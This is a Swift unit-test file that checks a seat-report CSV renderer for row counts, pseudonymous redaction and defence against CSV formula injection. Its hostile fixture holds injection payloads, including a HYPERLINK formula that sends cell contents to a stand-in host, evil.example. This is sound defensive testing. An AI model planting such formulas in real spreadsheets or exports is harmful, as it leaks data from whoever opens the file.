import Foundation
import Testing

@testable import SeatSweepKit

/// users.csv comes from the same document as the other reports, so it is cleaned and redacted
/// with them.
@Suite struct UsersCSVRendererTests {
    static func csv(_ document: ReportDocument) -> String {
        var bytes: [UInt8] = []
        UsersCSVRenderer.render(document) { bytes += $0 }
        return ReportFixtures.string(bytes)
    }

    @Test func oneRowPerBillableSeat() throws {
        let result = try ReportFixtures.sample()
        let text = Self.csv(ReportDocument(result))
        let lines = text.split(separator: "\r\n")
        #expect(lines.count == 1 + result.summary.billableSeats)
        #expect(lines[0].hasSuffix(UsersCSVRenderer.header.joined(separator: ",")))
        #expect(text.contains("Ana Souza,ana.souza@acme.example,confluence,acme,2026-05-02,183,inactive,yes,"))
    }

    @Test func formulasAreNeutralisedAndBidiRemoved() throws {
        let text = Self.csv(ReportDocument(try ReportFixtures.hostile()))
        #expect(text.contains(#""'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")""#))
        #expect(text.contains(",'@SUM(A1:A9),'+cmd@evil.example,"))
        #expect(!text.unicodeScalars.contains { ReportText.isBidiControl($0) || $0 == "\u{07}" })
    }

    @Test func redactedCSVUsesTheSamePseudonyms() throws {
        let result = try ReportFixtures.sample()
        let redactor = Redactor(salt: "same")
        let document = ReportDocument(result, options: .init(redactor: redactor))
        let text = Self.csv(document)
        for account in result.directory.accounts where !account.name.isEmpty {
            #expect(!text.contains(account.name))
        }
        let ana = try #require(result.directory.accounts.first { $0.name == "Ana Souza" })
        #expect(text.contains("\(redactor.name(accountId: ana.id)),\(redactor.email(accountId: ana.id))"))
        let xlsxSeats = ReportFixtures.texts(document.seats)
        #expect(xlsxSeats.contains { $0[1] == redactor.name(accountId: ana.id) })
    }
}
